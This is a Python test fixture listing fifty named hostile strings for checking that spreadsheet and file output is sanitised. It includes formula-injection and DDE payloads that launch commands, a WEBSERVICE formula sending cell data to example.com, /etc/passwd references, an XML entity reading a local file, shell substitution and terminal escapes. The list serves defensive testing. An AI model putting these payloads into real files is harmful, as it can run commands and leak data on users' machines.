"""Fifty texts that would harm somebody who opens, prints or parses what holds them, each under a name.

A text of a cell is any of them. As an ID those count that can be told apart by eye (``IDS``); file names are made of
those that a file may bear (``file_name``).
"""

_ESCAPE = "\x1b]0;owned\x07\x1b[2J"

TEXTS: dict[str, str] = {
    # Formulas, as Excel, LibreOffice and other programs take them.
    "formula": "=1+1",
    "formula with a plus": "+1+1",
    "formula with a minus": "-1+1",
    "formula with an at": "@SUM(1+1)",
    "array formula": "{=SUM(A1:A9)}",
    "formula after a tab": "\t=1+2",
    "formula after a line end": "\r\n=1+3",
    "formula after an apostrophe": "'=1+5",
    "formula after a mark without width": "\u200b\ufeff=1+4",
    "formula with a wide sign": "＝1+6",
    "formula that sends cells": '=WEBSERVICE("http://example.com/?"&A1)',
    "formula of another file": "='C:\\[Book1.xlsx]Sheet1'!A1",
    "formula of a text file": "='file:///etc/passwd'#$passwd.A1",
    "formula that leaves its quotation marks": '"&1+1&"',
    # Programs that are started.
    "command by DDE": "=cmd|' /C calc'!A0",
    "command by DDE after a plus": "+2+cmd|' /C calc'!A0",
    "command by DDE after an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "command by the function DDE": '=DDE("cmd";"/C calc";"x")',
    "command of a shell": "$(calc) `calc` | calc; calc & calc",
    # Links.
    "link by a formula": '=HYPERLINK("http://example.com/","Click")',
    "link to the web": "http://example.com/a?b=1&c#d",
    "link to an address": "mailto:a@example.com?subject=x",
    "link to a file": "file:///etc/passwd",
    "link to a share": "\\\\example.com\\share\\x.xlsx",
    "link of an office program": "ms-excel:ofe|u|http://example.com/x.xlsx",
    "link that is a program": "javascript:alert(1)",
    "link inside, as the writing library takes it": "internal:'Basis'!A1",
    "link outside, as the writing library takes it": "external:c:\\x.xlsx#Plan!A1",
    # Markup, patterns and separators.
    "rich text, as the writing library takes it": "<r><t>a</t></r>",
    "markup of a formula": "</t></is><f>1+1</f><v>2</v>]]>",
    "markup of an entity": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;&#61;&amp;',
    "escapes of a workbook": "_x0041_x001B_[2J_x005F_x0007_",
    "patterns": "%s%%%d %(x)s {0} {x!r} #",
    "a cell of a text file": 'a","=1+1";=1+1\t=1+1',
    "a line of JSON": '"}\n{"status": "ok", "name": "a',
    "a line of a log": "a\n2001-01-01 00:00:00  Q1.xlsx  done: 1 option",
    "an Excel error": "#REF!",
    "a number": "1E+400",
    "a path": "../../etc/passwd",
    # Characters.
    "escapes of a terminal": f"a{_ESCAPE}b",
    "controls": "a\x00b\x01c\x08d\x0be\x0cf\x1fg\x7fh",
    "controls of eight bits": "a\x84b\x85c\x9b2Jd\x9fe",
    "separators of lines": "a\u2028b\u2029c\rd",
    "characters that are none": "a\ufffeb\uffffc\ufdd0d",
    "emoji": "😀👩\u200d👧🏳\ufe0f",
    "from right to left": "שלום =1+1 مرحبا",
    "turned around": "\u202egnp\u2066x\u2069\u200fy\u061cz",
    "piled accents": "e" + "\u0301" * 60,
    "32,767 characters": "=" + "x" * 32_766,
    "32,767 characters as Excel counts them": "x" + "😀" * 16_383,
}
